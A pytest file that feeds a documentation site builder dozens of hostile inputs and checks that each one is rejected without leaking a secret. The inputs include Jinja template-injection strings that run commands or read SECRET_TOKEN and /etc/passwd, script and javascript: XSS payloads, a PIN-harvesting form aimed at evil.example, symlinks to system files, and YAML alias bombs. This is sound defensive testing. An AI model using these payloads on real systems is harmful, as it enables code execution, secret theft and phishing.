# ruff: noqa: E501
"""What a stranger's change could smuggle in: every file gets its sentence, and nothing of it is published."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from jinja2 import Environment
from jinja2.exceptions import SecurityError, UndefinedError
from mkdocs.config import load_config
from mkdocs.exceptions import Abort
from mkdocs.structure.files import Files

from macros.cli import main
from macros.files import Unwritable, write_inside
from macros.generators.mkdocs import on_page_content, on_page_markdown
from macros.load.handwritten import EXTENSIONS
from macros.macro import on_pre_page_macros
from tests.conftest import PROJECT, lead_home

Prepare = Callable[[Path], None]
SECRET = "s3cret-of-the-build-machine"


def page(extra: str) -> Prepare:
    """Adds a line at the end of a hand-written page, line 8 of the file."""

    def prepare(project: Path) -> None:
        text = "---\ntitle: About this book\ndescription: What it is.\n---\n\nWords.\n\n"
        (project / "docs" / "about.md").write_text(text + extra + "\n", encoding="utf-8")

    return prepare


def head(lines: str) -> Prepare:
    def prepare(project: Path) -> None:
        (project / "docs" / "about.md").write_text(f"---\n{lines}\n---\n\nWords.\n", encoding="utf-8")

    return prepare


def file(path: str, text: str) -> Prepare:
    def prepare(project: Path) -> None:
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        (project / path).write_text(text, encoding="utf-8")

    return prepare


def change(path: str, old: str, new: str) -> Prepare:
    def prepare(project: Path) -> None:
        text = (project / path).read_text(encoding="utf-8")
        assert old in text
        (project / path).write_text(text.replace(old, new, 1), encoding="utf-8")

    return prepare


def link(path: str, target: str) -> Prepare:
    def prepare(project: Path) -> None:
        (project.parent / "secret.yml").write_text(f"title: {SECRET}\n", encoding="utf-8")
        place = project / path
        if place.is_dir():
            place.rename(project / "moved-away")
        place.symlink_to(target.replace("SECRET", str(project.parent / "secret.yml")))

    return prepare


def term(means: str) -> Prepare:
    """Writes what a word of the glossary means, from line 3 of its file on."""
    return file("data/terms/sim-swap.yml", f"title: SIM swap\nmeans: |-\n  {means}\n")


def folder(path: str) -> Prepare:
    return lambda project: (project / path).mkdir()


def pipe(path: str) -> Prepare:
    return lambda project: os.mkfifo(project / path)


def copy(path: str, to: str) -> Prepare:
    def prepare(project: Path) -> None:
        shutil.copy(project / path, project / to)

    return prepare


def add_provision(project: Path) -> None:
    """A law whose id is the beginning of another's takes an article in the other's name."""
    text = (project / "data/regulations/eu-gdpr.yml").read_text(encoding="utf-8")
    text = text.replace("eu-gdpr-33", "eu-gdpr-99")
    (project / "data/regulations/eu.yml").write_text(text, encoding="utf-8")


HOSTILE: dict[str, tuple[Prepare, list[str]]] = {
    "A1 run a command": (
        page("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 read a secret": (
        page("{{ cycler.__init__.__globals__.os.environ['SECRET_TOKEN'] }}"),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 read a file": (
        page("{{ cycler.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 loop": (
        page("{% for i in range(10**9) %}x{% endfor %}"),
        ["docs/about.md:8:1: '{%' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 comment": (
        page("{# hidden #}"),
        ["docs/about.md:8:1: '{#' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 through the macro": (
        page("{{ part.__globals__ }}"),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 a call beside the call": (
        page('{{ part("worst.html") | attr("format") }}'),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 a call with a path": (
        page('{{ part("../../mkdocs.yml") }}'),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "A1 in the title": (
        head('title: "x {{ 7*7 }}"\ndescription: x'),
        [
            "docs/about.md:2:11: '{{' is not allowed; a part stands on a line of its own, as in the other pages",
            "docs/about.md:2:11: title: '{' is not allowed in plain text",
        ],
    ),
    "A2 a word that is a program": (
        change(
            "data/vocabularies/duties.yml",
            "- id: ",
            "- id: \"x{{ cycler.__init__.__globals__.os.environ['SECRET_TOKEN'] }}\"\n  name: y\n- id: ",
        ),
        ["data/vocabularies/duties.yml:1:3: [0].id: 61 characters; 40 at most"],
    ),
    "A3 script in a meaning": (
        change(
            "data/vocabularies/roles.yml", "means: Answers for", 'means: "x\\"><script>alert(1)</script>" # '
        ),
        ["data/vocabularies/roles.yml:3:10: [0].means: '\"' is not allowed in plain text"],
    ),
    "A3 script in a name": (
        change("data/vocabularies/roles.yml", "name: Owner", "name: <script>alert(1)</script>"),
        ["data/vocabularies/roles.yml:2:9: [0].name: '<' is not allowed in plain text"],
    ),
    "A3 script in a title": (
        head("title: x <script>alert(1)</script>\ndescription: x"),
        [
            "docs/about.md:2:10: raw HTML '<script' is not allowed; write Markdown",
            "docs/about.md:2:10: title: '<' is not allowed in plain text",
            "docs/about.md:2:26: raw HTML '</script' is not allowed; write Markdown",
        ],
    ),
    "A3 script in a description": (
        head("title: x\ndescription: 'x\"><script>alert(1)</script>'"),
        [
            "docs/about.md:3:16: description: '\"' is not allowed in plain text",
            "docs/about.md:3:18: raw HTML '<script' is not allowed; write Markdown",
            "docs/about.md:3:34: raw HTML '</script' is not allowed; write Markdown",
        ],
    ),
    "A3 script in a step": (
        change("data/vocabularies/impact.yml", "business: ", "business: <b>"),
        ["data/vocabularies/impact.yml:3:13: [0].business: '<' is not allowed in plain text"],
    ),
    "A4 another file takes over an article": (
        copy("data/regulations/eu-gdpr.yml", "data/regulations/eu.yml"),
        [
            "data/regulations/eu.yml:1:1: shares a sentence with regulations/eu-gdpr: 'Every business in the EU and …'",
            "data/regulations/eu.yml:1:1: shares a sentence with regulations/eu-gdpr: 'Tell the authority about a personal …'",
            "data/regulations/eu.yml:12:5: provisions[0].id: 'eu-gdpr-33' names a provision of 'eu-gdpr'",
        ],
    ),
    "A4 an article of a law that has its own file": (
        add_provision,
        [
            "data/regulations/eu.yml:1:1: shares a sentence with regulations/eu-gdpr: 'Every business in the EU and …'",
            "data/regulations/eu.yml:1:1: shares a sentence with regulations/eu-gdpr: 'Tell the authority about a personal …'",
            "data/regulations/eu.yml:12:5: provisions[0].id: 'eu-gdpr-99' names a provision of 'eu-gdpr'",
            "data/regulations/eu.yml:12:5: provisions[0].id: no risk names 'eu-gdpr-99'; add it to one or remove it",
        ],
    ),
    "A5 one action counted four times": (
        change(
            "data/risks/sim-swap.yml",
            "core: [two-step-pin, sim-swap-lock]",
            "core: [two-step-pin, sim-swap-lock, two-step-pin, two-step-pin]",
        ),
        [
            "data/risks/sim-swap.yml:75:39: mitigations.core[2]: 'two-step-pin' stands twice in this list",
            "data/risks/sim-swap.yml:75:53: mitigations.core[3]: 'two-step-pin' stands twice in this list",
        ],
    ),
    "A5 a role twice": (
        change("data/risks/sim-swap.yml", "roles: [", "roles: [owner, owner, "),
        [
            "data/risks/sim-swap.yml:10:16: roles[1]: 'owner' stands twice in this list",
            "data/risks/sim-swap.yml:10:23: roles[2]: 'owner' stands twice in this list",
        ],
    ),
    "A5 a provision twice": (
        change(
            "data/risks/sim-swap.yml",
            "  - provision: eu-gdpr-33",
            "  - provision: eu-gdpr-33\n    because: A first reason in more than eight words for the same article.\n  - provision: eu-gdpr-33",
        ),
        ["data/risks/sim-swap.yml:87:5: regulations[1]: 'eu-gdpr-33' stands twice in this list"],
    ),
    "A6 text": (
        link("docs/env.txt", "/proc/self/environ"),
        ["docs/env.txt:1:1: a link to another place; only regular files are published"],
    ),
    "A6 page": (
        link("docs/passwords.md", "/etc/passwd"),
        ["docs/passwords.md:1:1: a link to another place; only regular files are published"],
    ),
    "A6 folder of pages": (
        link("docs/more", "/etc"),
        ["docs/more:1:1: a link to another place; only regular files are published"],
    ),
    "A6 all pages": (
        link("docs", "/etc"),
        ["docs:1:1: a link to another place; only regular files are published"],
    ),
    "A6 endless": (
        link("data/risks/x.yml", "/dev/zero"),
        ["data/risks/x.yml:1:1: a link to another place; only regular files are read"],
    ),
    "A6 secret": (
        link("data/sources/x.yml", "SECRET"),
        ["data/sources/x.yml:1:1: a link to another place; only regular files are read"],
    ),
    "A6 broken": (
        link("data/risks/x.yml", "/no/where"),
        ["data/risks/x.yml:1:1: a link to another place; only regular files are read"],
    ),
    "A6 loop": (
        link("data/risks/x.yml", "x.yml"),
        ["data/risks/x.yml:1:1: a link to another place; only regular files are read"],
    ),
    "A6 vocabulary": (
        link("data/vocabularies/moods.yml", "SECRET"),
        [
            "data/vocabularies/moods.yml:1:1: no vocabulary of this name; they are products, roles, categories, platforms, efforts, costs, strengths, confidences, regulation_kinds, source_kinds, case_stages, checklist_kinds, jurisdictions, duties, verdicts, areas, signs, recipients, trades, questions, facts, currencies, cost_kinds, account_parts, likelihood, impact, levels, matrix"
        ],
    ),
    "A6 folder of entries": (
        link("data/terms", "/etc"),
        ["data/terms:1:1: a link to another place; only real folders are read"],
    ),
    "folder named like an entry": (
        folder("data/risks/x.yml"),
        ["data/risks/x.yml:1:1: a folder; a file was expected"],
    ),
    "pipe": (pipe("data/risks/x.yml"), ["data/risks/x.yml:1:1: not a regular file that can be read"]),
    "folder nothing reads": (
        folder("data/risk"),
        [
            "data/risk:1:1: only the folders risks, mitigations, regulations, cases, sources, checklists, terms, claims, changes, situations, authorities, places, vocabularies, schemas belong here; did you mean 'risks'?"
        ],
    ),
    "docs: html": (
        file(
            "docs/x.html",
            "<script>alert(1)</script><form action=https://evil.example><input name=pin></form>",
        ),
        [
            "docs/x.html:1:1: only pages in Markdown, named like get-help.md, are published from here; style, scripts and pictures are code and lie in macros/theme/assets"
        ],
    ),
    "docs: drawing": (
        file("docs/x.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        [
            "docs/x.svg:1:1: only pages in Markdown, named like get-help.md, are published from here; style, scripts and pictures are code and lie in macros/theme/assets"
        ],
    ),
    "docs: script": (
        file("docs/assets/more.js", "alert(1)"),
        [
            "docs/assets/more.js:1:1: only pages in Markdown, named like get-help.md, are published from here; style, scripts and pictures are code and lie in macros/theme/assets"
        ],
    ),
    "docs: page with a strange name": (
        file("docs/A B.md", "---\ntitle: x\ndescription: x\n---\n"),
        [
            "docs/A B.md:1:1: only pages in Markdown, named like get-help.md, are published from here; style, scripts and pictures are code and lie in macros/theme/assets"
        ],
    ),
    "docs: form": (
        page("<form action=https://evil.example><input></form>"),
        [
            "docs/about.md:8:1: raw HTML '<form' is not allowed; write Markdown",
            "docs/about.md:8:35: raw HTML '<input' is not allowed; write Markdown",
            "docs/about.md:8:42: raw HTML '</form' is not allowed; write Markdown",
        ],
    ),
    "docs: refresh": (
        page("<meta http-equiv=refresh content='0; url=https://evil.example'>"),
        ["docs/about.md:8:1: raw HTML '<meta' is not allowed; write Markdown"],
    ),
    "docs: comment": (
        page("<!-- seen by nobody -->"),
        ["docs/about.md:8:1: raw HTML '<!--' is not allowed; write Markdown"],
    ),
    "docs: allowed tag, other attribute": (
        page('<div class="rb-hero" onclick="alert(1)" markdown>'),
        ["docs/about.md:8:1: raw HTML '<div' is not allowed; write Markdown"],
    ),
    "docs: javascript": (
        page("[x](javascript:alert(1))"),
        [
            "docs/about.md:8:5: link target 'javascript:alert(1)' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: javascript in capitals": (
        page("[x](JaVaScRiPt:alert(1))"),
        [
            "docs/about.md:8:5: link target 'JaVaScRiPt:alert(1)' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: javascript in entities": (
        page("[x](&#106;avascript&colon;alert(1))"),
        [
            "docs/about.md:8:5: '&#106;' hides a character; write the character itself",
            "docs/about.md:8:20: '&colon;' hides a character; write the character itself",
        ],
    ),
    "docs: javascript with a tab": (
        page("[x](java&Tab;script:alert(1))"),
        ["docs/about.md:8:9: '&Tab;' hides a character; write the character itself"],
    ),
    "docs: javascript by reference": (
        page("[x][1]\n\n[1]: javascript:alert(1)"),
        [
            "docs/about.md:10:6: link target 'javascript:alert(1)' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: data": (
        page("[x](data:text/html;base64,PHNjcmlwdD4=)"),
        [
            "docs/about.md:8:5: link target 'data:text/html;base64,PHNjcmlwdD4=' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: another host": (
        page("[x](//evil.example)"),
        [
            "docs/about.md:8:5: link target '//evil.example' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: plain http": (
        page("[x](http://evil.example)"),
        [
            "docs/about.md:8:5: link target 'http://evil.example' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: a file beside the site": (
        page("[x](/etc/passwd)"),
        [
            "docs/about.md:8:5: link target '/etc/passwd' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "docs: picture": (
        page("![x](https://tracker.example/x.png)"),
        ["docs/about.md:8:3: the element 'img' is not allowed on a page"],
    ),
    "docs: automatic link": (
        page("<https://evil.example>"),
        ["docs/about.md:8:1: raw HTML '<https://evil.example' is not allowed; write Markdown"],
    ),
    "docs: title of a link": (
        page("[x](about.md 'a title')"),
        ["docs/about.md:8:17: the attribute 'title' is not allowed on 'a'"],
    ),
    "docs: attributes": (
        page("Words.\n{: onclick=alert(1) }"),
        ["docs/about.md:9:1: '{:' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "docs: hidden direction": (
        page("abc\u202edcba"),
        ["docs/about.md:8:4: the character U+202E RIGHT-TO-LEFT OVERRIDE is not allowed"],
    ),
    "docs: no front matter": (
        file("docs/about.md", "title: x\ntemplate: moved.html\n\nWords.\n"),
        [
            "docs/about.md:1:1: expected a line of three dashes, 'title: …', 'description: …', three dashes, and the page"
        ],
    ),
    "docs: two ends of the front matter": (
        file("docs/about.md", "---\ntitle: x\n...\ntemplate: moved.html\n---\n\nWords.\n"),
        [
            "docs/about.md:1:1: expected a line of three dashes, 'title: …', 'description: …', three dashes, and the page"
        ],
    ),
    "docs: another template": (
        head("title: x\ndescription: x\ntemplate: moved.html\nmoved_to: https://evil.example"),
        [
            "docs/about.md:4:1: template: no field 'template'",
            "docs/about.md:5:1: moved_to: no field 'moved_to'",
        ],
    ),
    "docs: search weight": (
        head("title: x\ndescription: x\nsearch: {boost: 1000}"),
        [
            "docs/about.md:4:1: search.exclude: 'exclude' is missing",
            "docs/about.md:4:9: '{boost:' is not allowed; a part stands on a line of its own, as in the other pages",
            "docs/about.md:4:10: search.boost: no field 'boost'",
        ],
    ),
    "docs: alias in the front matter": (
        head("title: &a x\ndescription: *a"),
        ["docs/about.md:2:8: anchor '&a' is not allowed; write the value out, or put the text in quotes"],
    ),
    "vocabulary: a word twice": (
        change("data/vocabularies/roles.yml", "- id: staff", "- id: owner"),
        ["data/vocabularies/roles.yml:5:3: [1].id: 'owner' stands twice in this list"],
    ),
    "vocabulary: a place that is part of a part": (
        change("data/vocabularies/jurisdictions.yml", "  part_of: eu", "  part_of: es"),
        [
            "data/vocabularies/jurisdictions.yml:7:3: [2].part_of: no place 'es' that is whole itself; did you mean 'us'?"
        ],
    ),
    "vocabulary: a rate that is printed two ways": (
        change("data/vocabularies/currencies.yml", "dollars: 1.1096,", "dollars: 1.1096, per_dollar: 0.9,"),
        [
            "data/vocabularies/currencies.yml:9:7: [1].rates[0]: the rate of 2015 needs one of 'dollars' and 'per_dollar'"
        ],
    ),
    "vocabulary: a word that leaves the folder": (
        change("data/vocabularies/roles.yml", "- id: owner", "- id: ../../../pwn"),
        [
            "data/vocabularies/roles.yml:1:3: [0].id: '../../../pwn'; expected the form it-admin: letters, digits and single hyphens"
        ],
    ),
    "vocabulary: empty": (
        file("data/vocabularies/areas.yml", "[]\n"),
        ["data/vocabularies/areas.yml:1:1: an empty list; one word or more expected"],
    ),
    "vocabulary: no list": (
        file("data/vocabularies/areas.yml", "id: x\n"),
        ["data/vocabularies/areas.yml:1:1: expected a list, each item on a line that begins with '- '"],
    ),
    "vocabulary: not YAML": (
        file("data/vocabularies/areas.yml", "- id: [\n"),
        ["data/vocabularies/areas.yml:2:1: not valid YAML: did not find expected node content"],
    ),
    "vocabulary: alias bomb": (
        file("data/vocabularies/areas.yml", "- &a [x,x]\n- [*a,*a]\n"),
        [
            "data/vocabularies/areas.yml:1:3: anchor '&a' is not allowed; write the value out, or put the text in quotes"
        ],
    ),
    "vocabulary: deep": (
        file("data/vocabularies/areas.yml", "[" * 10_000),
        ["data/vocabularies/areas.yml:1:13: nested deeper than 12 levels"],
    ),
    "vocabulary: unknown field": (
        change("data/vocabularies/roles.yml", "name: Owner", "nam: Owner"),
        [
            "data/vocabularies/roles.yml:1:3: [0].name: 'name' is missing",
            "data/vocabularies/roles.yml:2:3: [0].nam: no field 'nam'; did you mean 'name'?",
        ],
    ),
    "vocabulary: unknown file": (
        file("data/vocabularies/role.yml", "- {id: x, name: x}\n"),
        ["data/vocabularies/role.yml:1:1: no vocabulary of this name; did you mean 'roles'?"],
    ),
    "vocabulary: missing": (
        lambda project: (project / "data/vocabularies/areas.yml").unlink(),
        ["data/vocabularies/areas.yml:1:1: is missing"],
    ),
    "vocabulary: a level off the scale": (
        change("data/vocabularies/matrix.yml", "[1, 1, 1, 2, 2]", "[9, 1, 1, 2, -3]"),
        [
            "data/vocabularies/matrix.yml:4:12: [0].levels[0]: 9; expected 5 at most",
            "data/vocabularies/matrix.yml:4:24: [0].levels[4]: -3; expected 1 or more",
        ],
    ),
    "vocabulary: a step twice": (
        change("data/vocabularies/matrix.yml", "- step: 2", "- step: 1"),
        ["data/vocabularies/matrix.yml:3:1: steps 1, 1, 3, 4, 5; expected 1, 2, 3, 4, 5 in order"],
    ),
    "number without an end": (
        change("data/risks/sim-swap.yml", "  likelihood: 2", "  likelihood: 0x" + "f" * 5_000),
        ["data/risks/sim-swap.yml:59:15: a number of 5002 characters; 18 at most, or put it in quotes"],
    ),
    "sixties without an end": (
        change("data/risks/sim-swap.yml", "category: account", "category: 1" + ":59" * 300 + ".5"),
        ["data/risks/sim-swap.yml:8:11: a number of 903 characters; 18 at most, or put it in quotes"],
    ),
    "page: fields without an end": (
        file(
            "docs/zz.md",
            "---\ntitle: x\ndescription: x\n# {{ page.render(1) }} <script>alert(1)</script>\n---",
        ),
        [
            "docs/zz.md:1:1: expected a line of three dashes, 'title: …', 'description: …', three dashes, and the page"
        ],
    ),
    "page: a comment in the fields": (
        head("title: x\ndescription: x\n# <script>alert(1)</script>"),
        [
            "docs/about.md:4:3: raw HTML '<script' is not allowed; write Markdown",
            "docs/about.md:4:19: raw HTML '</script' is not allowed; write Markdown",
        ],
    ),
    "page: a call as a link target": (
        page('[hover](https://ok.example/{{ part("worst.html") }})'),
        [
            "docs/about.md:8:28: '{{' is not allowed; a part stands on a line of its own, as in the other pages"
        ],
    ),
    "page: a call as an anchor": (
        page('[z](#{{ part("worst.html") }})'),
        ["docs/about.md:8:6: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "page: a call as a definition": (
        page(
            '[part]: javascript:alert(1)\n\n[{{ part("worst.html") }}]: https://ok.example/\n\n[click][part]'
        ),
        [
            "docs/about.md:10:2: '{{' is not allowed; a part stands on a line of its own, as in the other pages"
        ],
    ),
    "page: a call in a heading": (
        page('## {{ part("counts.html") }}'),
        ["docs/about.md:8:4: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "page: a call before a digit": (
        page('{{ part("counts.html") }}7'),
        ["docs/about.md:8:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "page: a call under words": (
        page('Words\n{{ part("counts.html") }}'),
        ["docs/about.md:9:1: '{{' is not allowed; a part stands on a line of its own, as in the other pages"],
    ),
    "page: an end without a beginning": (
        page("</div>"),
        ["docs/about.md:8:1: raw HTML '</div' is not allowed; write Markdown"],
    ),
    "page: an anchor of the theme": (
        page("## \\_\\_config"),
        ["docs/about.md:1:1: '__config' is an anchor that the site keeps for itself"],
    ),
    "page: an address that is none": (
        page("[x](https://[)"),
        [
            "docs/about.md:8:5: link target 'https://[' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "page: lists without an end": (
        page("* " * 1_900 + "x"),
        ["docs/about.md:8:1: lists or quotes are nested too deep"],
    ),
    "page: a long line": (page("x" * 4_001), ["docs/about.md:8:1: a line of 4001 characters; 4000 at most"]),
    "page: brackets without an end": (
        page("\n\n".join(["[" * 100] * 10)),
        ["docs/about.md:1:1: the sign '[' 1000 times; 500 at most"],
    ),
    "page: a quote": (
        page("> Words of somebody else"),
        ["docs/about.md:1:1: the element 'blockquote' is not allowed on a page"],
    ),
    "page: quotes so deep that one program reads a link where another reads code": (
        page("* " + ">" * 292 + " ` a\n" + ">" * 294 + "     [x](javascript:alert(1))\n" + ">" * 292 + "` b"),
        [f"docs/about.md:{line}:1: lists or quotes are nested too deep" for line in (8, 9, 10)],
    ),
    "page: fences without an end": (
        page("~~~~a\n" * 100),
        ["docs/about.md:1:1: the sign '~' 400 times; 200 at most"],
    ),
    "page: escapes without an end": (
        page("\\*" * 300),
        ["docs/about.md:1:1: the sign '\\' 300 times; 200 at most"],
    ),
    "page: an unknown part": (
        page('{{ part("wurst.html") }}'),
        ["docs/about.md:8:1: no part 'wurst.html'; did you mean 'worst.html'?"],
    ),
    "page: a part about an unknown subject": (
        page('{{ part("category.html", "acount") }}'),
        [
            "docs/about.md:8:1: 'category.html' is asked about 'acount'; expected account, data, devices, platform, fraud, rules, law"
        ],
    ),
    "page: a part about nothing": (
        page('{{ part("worst.html", "account") }}'),
        ["docs/about.md:8:1: 'worst.html' is asked about 'account'; expected nothing"],
    ),
    "page: a user name before the host": (
        page("[x](https://faq.whatsapp.com@evil.example/)"),
        [
            "docs/about.md:8:5: link target 'https://faq.whatsapp.com@evil.example/' is not allowed; 'faq.whatsapp.com@' hides the host 'evil.example'"
        ],
    ),
    "page: above the site": (
        page("[x](../../x.md)"),
        [
            "docs/about.md:8:5: link target '../../x.md' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "page: a question to the site": (
        page("[x](?q=x)"),
        [
            "docs/about.md:8:5: link target '?q=x' is not allowed; use https, mailto or a page such as about.md"
        ],
    ),
    "page: headings without an end": (
        page("# a\n" * 201),
        ["docs/about.md:1:1: 201 headings; 200 at most"],
    ),
    "page: a table without an end": (
        page("a|" * 900),
        ["docs/about.md:8:1: a row of 900 cells; 50 at most"],
    ),
    "prose: a user name before the host": (
        term("Moving [a number](https://faq.whatsapp.com@evil.example/) to a card."),
        [
            "data/terms/sim-swap.yml:3:21: means: link target 'https://faq.whatsapp.com@evil.example/' is not allowed; 'faq.whatsapp.com@' hides the host 'evil.example'"
        ],
    ),
    "vocabulary: a word that is a source's anchor": (
        change("data/vocabularies/platforms.yml", "- id: android", "- id: source-x"),
        [
            "data/vocabularies/platforms.yml:1:3: [0].id: 'source-x' is a name the site or a file system keeps for itself; choose another"
        ],
    ),
    "vocabulary: a word in capitals": (
        change("data/vocabularies/roles.yml", "- id: staff", "- id: OWNER"),
        ["data/vocabularies/roles.yml:5:3: [1].id: 'OWNER' stands twice in this list"],
    ),
    "page: the address of another": (
        file("docs/about/index.md", "---\ntitle: x\ndescription: x\n---\n\nWords.\n"),
        ["docs/about.md:1:1: has the same address on the site as docs/about/index.md; rename one of them"],
    ),
    "prose: a code span over two lines": (
        term(
            "Asks for it ` a lot of words that nobody reads\n\n  ` [the phone](//evil.example/a) ` and goes on."
        ),
        [
            "data/terms/sim-swap.yml:5:17: means: link target '//evil.example/a' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: a code span over a heading": (
        term("# Moving of ` words\n  ` [the number](http://evil.example) ` to a card."),
        [
            "data/terms/sim-swap.yml:4:18: means: link target 'http://evil.example' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: a code span over an address": (
        term("Ask <1`@b.c> ` [the number](//evil.example/mail) ` here please."),
        [
            "data/terms/sim-swap.yml:3:31: means: link target '//evil.example/mail' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: a program's address": (
        term("Moving [a number](ms-msdt:/id) to a card."),
        [
            "data/terms/sim-swap.yml:3:21: means: link target 'ms-msdt:/id' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: a page above": (
        term("Moving [a number](../../../x) to a card."),
        [
            "data/terms/sim-swap.yml:3:21: means: link target '../../../x' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: no host": (
        term("Moving [a number](https:///x) to a card."),
        [
            "data/terms/sim-swap.yml:3:21: means: link target 'https:///x' is not allowed; use https, mailto or an entry such as [words][risk:sim-swap]"
        ],
    ),
    "prose: a citation with a space nobody sees": (
        term("Moving a number to a card.[^x\u00a0y]"),
        [
            "data/terms/sim-swap.yml:3:29: means: '[^x\\xa0y]' is no citation; write [^source-id]",
            "data/terms/sim-swap.yml:3:32: means: the character U+00A0 NO-BREAK SPACE is not allowed",
        ],
    ),
    "prose: a mark that turns the direction": (
        term("Moving a \u202enumber\u202c to another card."),
        ["data/terms/sim-swap.yml:3:12: means: the character U+202E RIGHT-TO-LEFT OVERRIDE is not allowed"],
    ),
    "plain: a line separator": (
        change("data/terms/sim-swap.yml", "title: SIM swap", 'title: "SIM\\u2028--- swap"'),
        ["data/terms/sim-swap.yml:1:8: the escape '\\u2028' hides a character; write the character itself"],
    ),
    "plain: a control sign": (
        change("data/changes/law-fcc-2023-11.yml", "title: ", 'title: "\\x01" # '),
        [
            "data/changes/law-fcc-2023-11.yml:1:8: the escape '\\x01' hides a character; write the character itself"
        ],
    ),
    "a term takes the word of another": (
        copy("data/terms/sim-swap.yml", "data/terms/zz-other.yml"),
        ["data/terms/zz-other.yml:1:1: title: 'SIM swap' is explained by 'sim-swap' already"],
    ),
    "a case takes the anchor of a source": (
        copy("data/cases/cifas-2024.yml", "data/cases/source-cifas-sim-swap-2025.yml"),
        [
            "data/cases/source-cifas-sim-swap-2025.yml:1:1: 'source-cifas-sim-swap-2025' is a name the site or a file system keeps for itself; choose another"
        ],
    ),
    "an old id that is every list's": (
        change("data/risks/sim-swap.yml", "title:", "was: [index]\ntitle:"),
        [
            "data/risks/sim-swap.yml:1:7: was[0]: 'index' is a name the site or a file system keeps for itself; choose another"
        ],
    ),
    "a date in other digits": (
        change("data/changes/law-fcc-2023-11.yml", "date: 2023-11-15", "date: '2023-\u0661\u0661-15'"),
        [
            "data/changes/law-fcc-2023-11.yml:2:1: date: '2023-\u0661\u0661-15'; expected the form 2026-11-23, 2026-11 or 2026"
        ],
    ),
    "a review ahead": (
        change(
            "data/risks/sim-swap.yml",
            "reviewed: 2026-11-23\nnext_review: 2027-05-23",
            "reviewed: 9998-06-01\nnext_review: 9999-01-01",
        ),
        ["data/risks/sim-swap.yml:90:1: reviewed: 9998-06-01 lies ahead; write the day on which it was read"],
    ),
    "a source with a user name": (
        change("data/sources/cifas-sim-swap-2025.yml", "url: https://", "url: https://faq.whatsapp.com@"),
        [
            "data/sources/cifas-sim-swap-2025.yml:3:1: url: 'https://faq.whatsapp.com@educronix.com/1055-surge-in-unauthorised-sim-swaps-as-mobile-and-telecoms-sector-hit-hard-by-rising-fraud' is no address for everybody; 'faq.whatsapp.com@' hides the host 'educronix.com'"
        ],
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_gets_its_sentence(
    project: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    prepare, expected = HOSTILE[name]
    prepare(project)
    assert main(["--project", str(project), "check"]) == 1
    printed = capsys.readouterr().err
    lines = [line for line in printed.splitlines()[:-1] if "out of date; run" not in line]
    assert lines == expected
    assert SECRET not in printed


@pytest.mark.parametrize(
    "name",
    [
        "A1 read a secret",
        "A2 a word that is a program",
        "A3 script in a meaning",
        "A6 page",
        "docs: html",
        "page: fields without an end",
        "page: a call as a definition",
        "prose: a code span over two lines",
    ],
)
def test_a_hostile_file_ends_the_build_before_anything_is_published(
    project: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    prepare, expected = HOSTILE[name]
    prepare(project)
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    command = [sys.executable, "-m", "mkdocs", "build"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    output = done.stdout + done.stderr
    assert done.returncode == 1
    assert expected[0] in output
    assert SECRET not in output
    assert "Traceback" not in output
    assert not (project / "site").exists()


def test_the_macros_plugin_runs_pages_in_a_sandbox_that_knows_one_name() -> None:
    class Plugin:
        env: object = Environment()
        macros = {"part": lambda *names: "the part"}  # noqa: RUF012
        variables = {"config": SECRET}  # noqa: RUF012
        page = "the page"

        def __setattr__(self, name: str, value: object) -> None:
            object.__setattr__(self, name.lstrip("_"), value)

    plugin = Plugin()
    on_pre_page_macros(plugin)
    sandbox = plugin.env
    assert isinstance(sandbox, Environment)
    assert sandbox.from_string("{{ part('x') }}").render(plugin.variables) == "the part"
    for attempt in (
        "{{ page.render }}",
        "{{ part.__globals__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler }}",
        "{{ config }}",
    ):
        with pytest.raises((SecurityError, UndefinedError)):
            sandbox.from_string(attempt).render(plugin.variables)


def test_pages_are_judged_with_the_extensions_they_are_built_with() -> None:
    config = load_config(str(PROJECT / "mkdocs.yml"))
    assert set(config.markdown_extensions) == set(EXTENSIONS)


